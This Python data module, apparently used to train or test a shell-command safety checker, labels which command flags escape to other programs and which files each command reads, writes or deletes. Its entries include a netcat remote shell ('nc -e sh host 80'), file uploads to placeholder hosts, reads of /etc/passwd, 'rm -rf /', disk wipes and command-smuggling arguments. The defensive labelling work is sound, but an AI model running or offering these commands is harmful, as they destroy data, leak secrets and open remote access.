"""Commands that do more than their names say, and what commands touch."""

from typing import Final

__all__ = ["CHANGING", "ESCAPING"]

_ESCAPING: Final = r"""
git log --output=f => --output
git log --outp f => --output
git log --ext-diff => --ext-diff
git diff --ext-d => --ext-diff
git show --output=f HEAD => --output
git cat-file --textconv HEAD:f => --textconv
git cat-file --filters HEAD:f => --filters
git -c core.pager=x log => -c core.pager
git -c alias.x=y x => -c alias.x
git --exec-path=. status => --exec-path
git --git-dir=x status => --git-dir
git --work-tree=x status => --work-tree
git --config-env=core.pager=X log => --config-env
git -p log => -p
ssh-keygen -A => -A
bat --list-themes => --list-themes
bat -L => -L
bat --list-languages => --list-languages
git --paginate log => --paginate
git grep -O foo => -O
git grep -Ox foo => -O
git grep --open-files-in-pager=x foo => --open-files-in-pager
git grep --textconv foo => --textconv
git push --receive-pack=x origin => --receive-pack
git push --rec x origin => --receive-pack
git fetch --upload-pack=x origin => --upload-pack
git clone ext::sh x => ext::
git clone -u x y => -u
git clone -c core.pager=x y => -c
git clone --template=x y => --template
git init --template=x => --template
git rebase -x y => -x
git rebase --exec y => --exec
git bisect run x => runs
git submodule foreach x => runs
git filter-branch x => runs
git difftool -x y => -x
git mergetool --extcmd=y => --extcmd
git archive -o f HEAD => -o
git archive --remote=x HEAD => --remote
git archive --exec=x HEAD => --exec
git log --show-signature => --show-signature
git log --format=%G? => --format
git tag --format=%(signature) => --format
git -c diff.renames.command=x diff => -c diff.renames.command
git -c diff.context.textconv=x diff => -c diff.context.textconv
git -c log.showsignature=true log => -c log.showsignature
git -c blame.ignorerevsfile=x blame f => -c blame.ignorerevsfile
git shortlog --output=f => --output
git blame --output=f g => --output
curl -w %output{f} http://x.org => --write-out
curl --alt-svc f http://x.org => --alt-svc
7z a -sdel b c => -sdel
git log --author --output=f => --output
git diff -U --output=f => --output
sort -k --output=f => --output
sort -k -of => -o
find . -name -delete => -delete
git merge --strategy=x y => --strategy
git apply --unsafe-paths f => --unsafe-paths
git config -e => -e
git config --edit => --edit
sort -o f f => -o
dig -f /etc/passwd => -f
psql -o f => -o
psql -c '\! id' => order
usql -c '\! id' => order
pgcli -e '\! id' => order
psql -f f => -f
sqlite3 a '.shell id' => order
sqlite3 a '.output x' => order
sqlite3 -init f a => -init
duckdb a "copy t to '/x'" => order
duckdb -c "select * from read_text('/etc/passwd')" => order
duckdb -c "from 'https://x.example/a.csv'" => order
duckdb -s "install httpfs; load httpfs" => order
mysql -e "load data local infile '/x' into table t" => order
mysql -e 'system id' app => order
mysql app --execute='\\! id' => order
mysql --tee=f app => --tee
duckdb a -c "copy t to 'x'" => order
duckdb -init f a => -init
ssh host -oProxyCommand=./x true => -o
openssl enc -in a -out b => -out
ed a => input
sort -uof f => -o
sort f --output g => --output
sort --ou=g f => --output
sort --compress-program=x f => --compress-program
sort -T d f => -T
sort --temporary-directory=d f => --temporary-directory
sort --files0-from=l => --files0-from
wc --files0-from=l => --files0-from
du --files0-from=l => --files0-from
uniq a b => operand 2
xxd a b => operand 2
xxd -r a b => operand 2
hostname x => operand 1
hostname -F f => -F
find . -delete => -delete
find . -exec wc {} ; => -exec
find . -execdir wc {} + => -execdir
find . -ok wc {} ; => -ok
find . -okdir wc {} ; => -okdir
find . -fprint f => -fprint
find . -fprint0 f => -fprint0
find . -fprintf f %p => -fprintf
find . -fls f => -fls
find -files0-from l => -files0-from
rg --pre x foo => --pre
rg --pre=x foo => --pre
rg --hostname-bin=x foo => --hostname-bin
rg -z foo => -z
rg --search-zip foo => --search-zip
fd foo -x rm => -x
fd foo -X rm => -X
fd --exec rm => --exec
fd --exec-batch rm => --exec-batch
find . -d* => may become
find . -[d]elete => may become
find * => may become
find * -name x => may become
sort * => may become
sort -* f => may become
git log --out* => may become
git log * => may become
rg foo * => may become
uniq * => operand 2
uniq a* => operand 2
uniq a b* => operand 2
xxd * => operand 2
bat --pager x f => --pager
batcat --pag=x f => --pager
wc --files0-from=- => list names
tar -cf x -T - => list names
sed -i s/a/b/ f => -i
sed -ni.bak s/a/b/p f => -i
sed -I '' s/a/b/ f => -I
sed --in-pl s/a/b/ f => --in-place
sed 's/a/b/e' f => with e
sed 's/a/b/gw out' f => with w
sed 'w out' f => with w
sed '1e id' f => with e
sed 'r f' g => with r
sed 'R f' g => with R
sed '/x/I,$!W f' g => with W
sed -e p -e 'w f' g => with w
sed -f x f => -f
sed --file=x f => --file
awk 'BEGIN{system("id")}' => system
awk '{print > "f"}' f => >
awk '{print >> $2}' f => >
awk '{print | "sh"}' f => runs
awk '{print |& "sh"}' f => runs
awk '{while (("id" | getline x) > 0) print x}' f => getline
awk 'BEGIN{print ENVIRON["X"]}' => environment
awk 'BEGIN{ARGV[1]="/etc/passwd"; ARGC=2}' => what it reads
awk '@load "x"' => could not be read
awk '1system("id")' f => system
awk 'BEGIN{x=.5system("id")}' => system
awk '1e5system("id")' f => system
awk '1esystem("id")' f => system
awk '0x1fsystem("id")' f => system
awk 'NR==1getline<"f"' f => getline
awk '{print 1ENVIRON["X"]}' f => environment
awk '{x=1eprint>"f"}' f => could not be read
awk '{print newline > "f"}' f => >
awk 'BEGIN{x = 1 / /"/ ; print "x" > "f" #"}' => >
awk 'BEGIN{x += /"/ ; print "x" > "f" #"}' => >
awk 'BEGIN{x = newline / 1; print "x" > "f"; y = 1 / 2}' => >
awk -f x f => -f
awk -i inplace '{print}' f => -i
awk --exec x => --exec
gawk -l x '{print}' => -l
gawk -o f '{print}' => -o
gawk -d '{print}' => -d
tree -o f => -o
tree -R -L 2 => -R
date -s x => -s
date --set=x => --set
date 010100002030 => clock
file -C -m x => -C
file -z f => -z
file -f l => -f
shuf -o f g => -o
iconv -o f g => -o
strings @f => @
less +!id f => +
less -o f g => -o
less -k f g => -k
man -P x ls => -P
man --pager=x ls => --pager
man -H ls => -H
ss -K => -K
ss -D f => -D
journalctl --vacuum-size=1 => --vacuum-size
info -o f x => -o
curl -o f http://x.org => -o
curl -O http://x.org/f => -O
curl -d @f http://x.org => -d
curl -sd x http://x.org => -d
curl -F a=@f http://x.org => -F
curl -T f http://x.org => -T
curl -K f => -K
curl -X POST http://x.org => -X
curl --data-b @f http://x.org => --data-binary
curl --proxy x http://x.org => --proxy
wget -O f http://x.org => -O
wget --post-file=f http://x.org => --post-file
wget -e x=y http://x.org => -e
ssh -o ProxyCommand=x host => -o
scp -S x f host:g => -S
nc -e sh host 80 => -e
sftp -S x host => -S
sftp -SRJ host => -S
xh -x p.org x.org => -x
lftp -e x host => -e
tar czf a --checkpoint-action=exec=sh src => --checkpoint-action
tar xf a --to-com=sh => --to-command
tar -I x -xf a => -I
tar xPf a => -P
zip a f -T -TT x => -TT
zip -m a f => -m
gzip --rm f => --rm
script -c x y => -c
bat --pager ./x f => --pager
bat --pag=x f => --pager
xz --rm f => --rm
aria2c -o f x.org => -o
aria2c --on-download-complete=x y => --on-download-complete
bzip2 --rm f => --rm
lzma --rm f => --rm
lzip --rm f => --rm
compress --rm f => --rm
gunzip --rm f => --rm
lz4 --rm f => --rm
brotli --rm f => --rm
unzstd --rm f => --rm
unlz4 --rm f => --rm
yq -i .a=1 f => -i
yq --inpl .a=1 f => --inplace
xmllint --shell f => --shell
xmllint --format f --output g => --output
nm --plugin ./x.so a.out => --plugin
nm --plug=./x.so a.out => --plugin
nvidia-smi -f log => -f
gofmt -cpuprofile p f => -cpuprofile
openssl x509 -in a -noout -engine x => -engine
zstd --rm f => --rm
base64 -i f -o g => -o
cpio --rsh-command=x -i => --rsh-command
rsync -e x a b => -e
rsync --rsh=x a b => --rsh
rsync --delete a b => --delete
split --filter=x f => --filter
rename -e x f => -e
install --strip-program=x -s a b => --strip-program
patch -o f g => -o
vim -c x f => -c
crontab -r => -r
npm ls --node-options=x => --node-options
pip install -t d x => -t
pip list --outdated => --outdated
pnpm list --node-options=--require=./x.cjs => --node-options
pnpm list --node-opt=x => --node-options
pnpm ls --userconfig f => --userconfig
actionlint -shellcheck=./x => -shellcheck
actionlint -pyflakes ./x f => -pyflakes
actionlint -init-config => -init-config
sqlite3 -readonly a '.shell id' => order
sqlite3 -readonly a "select writefile('b', 1)" => order
sqlite3 -readonly -init f a .tables => -init
yamllint -d 'extends: /etc/passwd' a => another file
yamllint -d .env a => another file
lspci -kq => -q
glxinfo -display x.org:0 => -display
scc -wo f => -o
scc --output=f => --output
scc --format-multi csv:f => --format-multi
scc * => may become
yamllint -d 'extends: default/../x' a => another file
yamllint -d '{extends: default, extends: f}' a => another file
yamllint -d 'ignore-from-file: f' a => another file
"""

_CHANGING: Final = r"""
rm a b => delete a, delete b
rm -f a => delete a
rm -rf a => delete* a !
rm a -Rf => delete* a !
rm --recursive a => delete* a !
rm --recu a => delete* a !
rm -- -r => delete -r
/opt/x/rm -rf / => delete* / !
./rm -r a => delete* a !
RM -R a => delete* a !
unlink a => delete a
rmdir a => delete a
trash a => delete* a !
shred a => delete a !
tee a b => write a, write b
tee -a a => write a
sponge a => write a
cp a b => read a, write b, write b/a
cp -r x/.vscode . => read* x/.vscode, write*@ ./.vscode
cp -r x/ . => read* x/, write*@ ., write*@ ./x
cp a/b ./ => read a/b, write ./b
cp a/* . => read a/*, write ., write ./*
cp -rT a . => read* a, write*@ ., write*@ ./a
mv -T a . => delete* a, write* ., write* ./a !
cp --parents a/b . => read a/b, write ., write ./b, write ./a/b
cp a src/ => read a, write src/, write src/a
cp -t d a => write d, read a, write d, write d/a
cp --target-directory=d a => write d, read a, write d, write d/a
mv a b => delete* a, write* b, write* b/a !
mv / b => delete* /, write* b !
ln a b => read a, write a, write b, write b/a
cp -l a b => read a, write b, write b/a, write a
cp -s a b => read a, write b, write b/a, write a
ln -s a b => read a, write b, write b/a
ln -s ../a => read ../a, write ./a
install -m 755 a b => read a, write b, write b/a
install -d a b => write a, write b
touch a => write a
touch -r a b => look a, write b
mkdir -p a/b => write a/b
mkfifo a => write a
mktemp a.XXX => write a.XXX
truncate -s 0 a => write a !
rimraf 'dist/*' => delete* dist/* !
wipe -rf a => delete* a !
fallocate -l 1 a => write a
dd if=a of=b => read a, write b
dd of=/dev/sda => write /dev/sda, delete* /dev/sda !
dd of=/dev/null => write /dev/null
chmod 600 a => write a
chmod +x a => write a
chmod -x a => write a
chmod -R 777 a => write* a !
chmod --reference=a b => look a, write b
chown -R me: a => write* a !
chattr +i a => write a
chattr -p +1 a => write a
chattr -v 1 a => write a
sed -i s/a/b/ f => read f, write f
sed -i '' s/a/b/ f => read f, write f
sed -ni '' a f => read a, read f, write a, write f
sed -i '' -e s/a/b/ f => read f, write f
sed 's/a/b/w out' f => read f, write out
uniq a b => read a, write b
sort -o a b => write a, read b
find a -delete => look* a, delete* a !
find a -fprintf b %p => write b, look* a
find / -exec rm -rf {} + => look* /, delete* / !
find a -type f -exec rm {} + => look* a, delete* a !
find . -name '*.pyc' -delete => look* ., delete*~ . !
find . ! -name '*.pyc' -delete => look* ., delete* . !
find . -name '*' -delete => look* ., delete* . !
find . -name '*?' -delete => look* ., delete* . !
find . -name '[!x]*' -delete => look* ., delete* . !
find . -size -9G -delete => look* ., delete* . !
find . -mtime +7 -delete => look* ., delete*~ . !
find / -name a -delete => look* /, delete* / !
find ../a -name a -delete => look* ../a, delete* ../a !
git restore a => write* a
git restore --staged a => look* a
git init --template=a b => read a, write b, write .git/hooks
git archive HEAD a => read HEAD, read a
docker cp a b:c => read* a
docker run -v ./a:/b c => read* ./a
docker run --mount type=bind,source=./a,target=/b c => read* ./a
docker run -v./a:/b c => read* ./a
docker run -v named:/b c =>
docker build -t x -f a/D b => read a/D, read* b
docker cp b:c a => write a
sqlite3 a 'select 1' => write a
sqlite3 a .schema => read a
sqlite3 a .schema 'delete from t' => write a
sqlite3 -readonly a 'select 1' => read a
sqlite3 'file:a?mode=ro' 'select 1' => read a
sqlite3 'file:a?mode=ro&immutable=1' 'select 1' => read a
sqlite3 'file:a?mode=ro&mode=rwc' 'select 1' => write a
sqlite3 'file:a?mode=ro&vfs=x' 'select 1' => write a
sqlite3 'file:a?mode=ro' => write a
migrate -path steps up => read steps
curl -o /dev/null http://x.org =>
find -delete => look* ., delete* . !
mkfs.ext4 /dev/sda1 => delete* /dev/sda1 !
wipefs -a /dev/sda => delete* /dev/sda !
fdisk /dev/sda => delete* /dev/sda !
sgdisk -l b.bin /dev/sda => delete* b.bin, delete* /dev/sda !
split a b => read a, write b, write b/a
patch a => write* a
patch -p1 => write* .
dos2unix a => write a, read a
rename s/a/b/ c => delete c, read c
vim a => write a, read a
view a => write a, read a
pico a => write a, read a
crontab a => read a, write /var/spool/cron/crontabs
crontab -l =>
cp -b a b => read a, write b, write b/a, write b~, write b/a~
cp -rSx a b => read* a, write*@ b, write*@ b/a, write*@ bx, write*@ b/ax, write b/.*x, write b/a/.*x
mv --suffix=x a b => delete* a, write* b, write* b/a, write bx, write b/ax !
ln -bsS x a b => read a, write b, write b/a, write bx, write b/ax
install -bS x a b => read a, write b, write b/a, write bx, write b/ax
sed -ix p a/b => read a/b, write a/b, write a/bx
sed -i.*x p a/b => read a/b, write a/b, write a/.bx, write .a/bx
sed -i .x p a => read p, read a, write p, write a, write a.x
patch -B p/ a/b q => write* a/b, read q, write p/a/b
patch -Y p/ -z s a/b q => write* a/b, read q, write a/p/bs
patch -z s => write* ., write *s, write .*s
patch -d a b => write a, write* b, write* a/b
perl -pi -e 1 a => write a
perl -pi.x -e 1 a => write a, write a.x
perl -0777i.x b a => write a, write a.x
perl -e 1 a =>
ruby -ix* b a => write a, write xa
awk '{print > "b"; print 1 > 2}' a => read a, write b, write what its program prints to
awk '$1 > 2 {print ($1 > 3); print > "/dev/stderr"}' a => read a
awk '{print > "b-" $1 ".c"; print > "d" e}' => write b-*, write what its program prints to
gcc -Wall -O2 -o b a.c => write b
cc -ob a.c => write b
bat a => read a
gpg -ao b a => write b
gpg --output=b a => write b
script a => write a
script -qc x a => write a
mktemp -p a => write a, write a/tmp.XXXXXXXXXX
mktemp --tmpdir=a b => write a/b
mktemp a => write a
cp --parents a/b c => read a/b, write c, write c/b, write c/a/b
tar xf a => read a, write*~ .
tar -xzf a -C b => read a, write*~ b
tar --extract --file=a --directory=b => read a, write*~ b
tar xf a b/c => read a, write* ./b/c
tar xf a -C d --strip-components=1 b/c => read a, write*~ d, write* d/c
tar xf a --one-top-level=d b => read a, write*~ ., write* ./d, write* ./b, write* ./d/b
tar xf a --one-top-level => read a, write*~ .
tar tf a b => read a
curl -O http://x.org/{a,b}%2e => write a%2e, write a., write b%2e, write b.
curl --output-dir d -o '#1' http://x.org/a => write d, write #1, write d/*, write d/#1
wget -P d http://x.org/a => write d, write d/a
wget -x -nH http://x.org/a/b => write b, write a/b
wget -r http://x.org/a/b => write b, write x.org/a/b, write* ./x.org/a
aria2c -d b -o c http://x.org/a => write b, write c, write b/c
tar cf a b => write a, read* b
tar tf a => read a
tar -xOf a => read a
unzip a -d b => read a, write* b
unzip a b/c -x d -d e => read a, write* e, write* e/b/c
unzip -j a b/c => read a, write* ., write* ./c
unzip -l a b => read a
unzip -l a => read a
zip -r a b => write a, read*@ b
zip -ry a b => write a, read* b
gzip a => write a, read a, delete a, write a.gz
gzip -k a => write a, read a, write a.gz
gzip -kS rc a => write a, read a, write arc
gzip -dk a.gz => write a.gz, read a.gz, write a
gunzip a.GZ => write a.GZ, read a.GZ, delete a.GZ, write a
gunzip -k *.gz => write *.gz, read *.gz, write *
gunzip -k a.tgz => write a.tgz, read a.tgz, write a.tar
gunzip -Nk a => write a, read a, write the name that is stored in it
gunzip -kS .x a.x => write a.x, read a.x, write a
unxz -kzS .x a => write a, read a, write a.x
bzip2 -k a => write a, read a, write a.bz2
xz -k a => write a, read a, write a.xz
xz -d --files=a => read what a list names, read a, write what its list names
lzma -k a => write a, read a, write a.lzma
lzip -k a => write a, read a, write a.lz
compress a => write a, read a, delete a, write a.Z
zstd a => write a, read a, write a.zst
zstd -c -S a => read a
zstd -d a.zst -o b => write b, write a.zst, read a.zst
zstd -d a.zst --output-dir-flat b => write b, write a.zst, read a.zst, write a
zstd --rm a => write a, read a, delete a, write a.zst
gofmt -w f => read* f, write f, write f/…
clang-format -i f => read f, write f
unzstd a.zst => write a.zst, read a.zst, write a
lz4 a => write a, read a, write a.lz4
lz4 -d a.lz4 => write a.lz4, read a.lz4, write a
brotli a => write a, read a, write a.br
pigz a => write a, read a, delete a, write a.gz
tar cf a --remove-files b => write a, read* b, delete* b !
zip -rm a b => write a, read*@ b, delete* b !
gunzip -c a => read a
7z x a => read a, write* .
7z x a -ob => read a, write* b
7z a b c => write b, read*@ c
7z l a => read a
ar r a b => write a, write b, read a, read b
ranlib a => write a, read a
cpio -i a => write a, read a, write* ., write the paths that are stored in it
cpio -it =>
cpio -o => read what its input names
rsync -a a/ b => read* a/, write*@ b, write*@ b/a
rsync -a --delete a b => read* a, write*@ b, write*@ b/a, delete* b !
wipe a => delete a !
ssh-keygen -f a => write a
ssh-keygen -lf a => read a
npm install -g a => write /usr/local/lib/node_modules, write /usr/local/bin
npm install --prefix a b => look a, write* a
git maintenance start => write ~/.gitconfig
git sparse-checkout set a => write .git/config, write .git/info
git remote set-branches a b => write .git/config
git remote prune a .env => read .env
git lfs install => write ~/.gitconfig, write .git/hooks
git checkout -- *.json => write* *.json, write* **/*.json
claude mcp add a b => write ~/.claude.json
claude mcp list =>
code --add-mcp a => write ~/.config/Code/User/settings.json
base64 -i a -o b => write b, read a
rsync -a a host:b => read* a
scp host:a b => write b, write b/a
sftp host:a/b => write ./b
sftp host:a b => write b, write b/a, write* b
sftp -r host:a b => write* b, write* b/a, write* b
sftp '[::1]:.envrc' => write ./.envrc
sftp 'me@[::1]' =>
sftp 'me@[::1]:a/b' => write ./b
sftp 'host:a .envrc' => write what sftp makes of its words
sftp 'host:.envr\c' => write what sftp makes of its words
sftp 'host:-r .git' => write what sftp makes of its words
sftp 'host:*' => write what sftp makes of its words
sftp host:a '.envr\c' => write what sftp makes of its words, write* .envr\c
sftp -- host:a -r => write what sftp makes of its words, write* -r
wget http://x.org/a/b.tgz => write b.tgz
wget -O a http://x.org => write a
curl -o a http://x.org => write a
curl -d @a http://x.org => read a
curl --data-urlencode n@a http://x.org => read a
curl file:///etc/passwd => read /etc/passwd
curl file://./a => read ./a
curl file:///./a => read /./a, read ./a
http POST x.org @a => read a
curl fil{e}:///a => read what it puts together
curl -b a http://x.org => read a
curl -b a=b http://x.org =>
curl -w @a http://x.org => read a
curl -d a=@b http://x.org =>
curl -E a http://x.org => read a
npm config set a b => write ~/.npmrc
pip config set a b => write ~/.config/pip/pip.conf
git config a.b c => write .git/config
git config --global a.b c => write ~/.gitconfig
git config --system a.b c => write /etc/gitconfig
git config -f a b.c d => write a, write a
git config -f a --get b.c => read a
git remote add a b => write .git/config
git -C .. config a.b c => look .., write ../.git/config
git -C a -C b show HEAD:c => look a, look b, read a/b/c, read c
git -C a show HEAD:./c => look a, read a/./c
git -C a blame :/c => look a, read a/c, read c
git show HEAD@{10:00}:a => read a
git show :0:a => read a
git show 'HEAD^{/fix: x}:a' => read a
git cat-file --batch => read* .
git checkout -- a => write* a
git checkout main => write?* main
git checkout main .vscode/a => write* .vscode/a, write?* main
git checkout main a => write?* main, write* a
git checkout -b new main => write?* main
git grep one main => read* main, read* .
git grep one -- main => read* main
git config --blob=main:a -l => read a
git diff --no-index a b => read* a, read* b
git restore ./a => write* ./a
git clean -fd => delete* .
git clean -fd a => delete* a
git rm -r a => delete* a !
git mv a b => delete* a, write* b, write* b/a, read* a
git add a => look a
git commit -F a => read a
git clone https://x.org/a/b.git => write* b
git clone ../a b => read ../a, write* b
git submodule add https://x.org/y => write* y, write .gitmodules
git init a => write a
git worktree add a b => write a, read* .
git worktree remove a => delete* a
git worktree move a b => delete a, write b, write b/a
git apply a => read a, look .
git apply --cached a => read a
git stash pop => look .
git checkout-index -a => look .
git archive -o a HEAD => write a, read HEAD, read* .
git format-patch -1 => write ., look .
git format-patch -o a main => write a, look .
git format-patch --stdout main => look .
git bundle create a main => write a, read* .
git hash-object a => read a
git update-index --refresh a => look a
git log -- a b => read a, read b
git show HEAD:a => read a
git show :a => read a
git show HEAD:./a => read ./a
git diff -O a b => read a, read b, look? b, look .
git blame --contents a b => read a, read b
git log -L1,5:a => read a
git diff -- :!a b => read b, look b
git diff -- :(exclude)a => look .
git diff -- :/a => read a, look .
git grep a => read* .
git grep a -- b => read* b
git grep a HEAD -- b => read* HEAD, read* b
git ls-files => look* .
ls => lookh .
ls -a => look .
ls -R a => look*h a
ls -aR a => look* a
cat a - => read a
grep a b => read b
grep a =>
grep -r a => read* .
grep -d recurse a => read* .
grep -e a b => read b
grep -e *.n b => read *.n, read b
grep -f a b => read a, read b
grep --exclude-from=a b c => read a, read c
rg a => read*h .
rg --hidden a b => read* b
rg -g .env a => read* .
rg -g '*.env' a => read* .
rg -g '*.py' a => read* .
rg --iglob '*ENV*' a => read* .
rg -L a => read*h ., read* a link below it
rg --files a => look*h a
rg -f a b => read a, read*h b
fd a b => look*h b
fd -H a => look* .
find a b -name c => look* a, look* b
find -newer a => look a, look* .
find -L a => look* a, look* a link below it
find a -follow => look* a, look* a link below it
ls -LR => look*h ., look* a link below it
ls -L => lookh .
tree -l => look*h ., look* a link below it
du -L => look* ., look* a link below it
tree a => look*h a
du a => look* a
test -f a => look a
[ a -nt b ] => look a, look b
[[ -d a && -e b ]] => look a, look b
cd => look ~
cd a => look a
realpath --relative-to=a b => look a, look b
diff -r a b => read*@ a, read*@ b, read a/b, read b/a
diff -r --no-dereference a b => read* a, read* b, read a/b, read b/a
diff x/a . => read*@ x/a, read*@ ., read ./a
grep -R x a => read*@ a
grep --dereference-rec x a => read*@ a
tar chf a b => write a, read*@ b
tar cf a --dereference b => write a, read*@ b
tar -C x -cf a ../b => write a, read* ./x/../b, look x
rsync -aL a . => read*@ a, write*@ ./a
scp -r a h: => read*@ a
zip -@ a => write a, read what a list names
diff --from-file=a b => read a, read*@ b
jq . a b => read a, read b
jq --slurpfile x a . b => read a, read b
jq --arg x y . a => read a
awk 1 a b=c => read a
awk -v x=1 1 a => read a
xxd a => read a
date -r a => read a
go list -deps ./cmd/... x => look* ./cmd
go doc -all ./internal/queue => read ./internal/queue
go version -m bin => read* bin
terraform fmt -check => readh .
terraform fmt -check -recursive a => read*h a
helm lint a => read*h a
ar t a => read a
cmake -E cat a b => read a, read b
cmake -E touch a => write* a
ninja -C build -f a -t targets => look build, read a
sqlite3 -readonly a .tables => read a
addr2line -Cfe a 0x1 => read a
cloc a => read*h a
scc => read*h .
touch -- -a => write -a
"""


def _pairs(text: str) -> tuple[tuple[str, str], ...]:
    halves = (line.partition(" =>") for line in text.strip().splitlines())
    return tuple((line, effect.strip()) for line, _, effect in halves)


ESCAPING: Final = _pairs(_ESCAPING)
"""What does more than its name says, each with a part of why."""

CHANGING: Final = _pairs(_CHANGING)
"""What is touched: `*` is all below, `h` leaves out hidden names, `!` could be a disaster."""
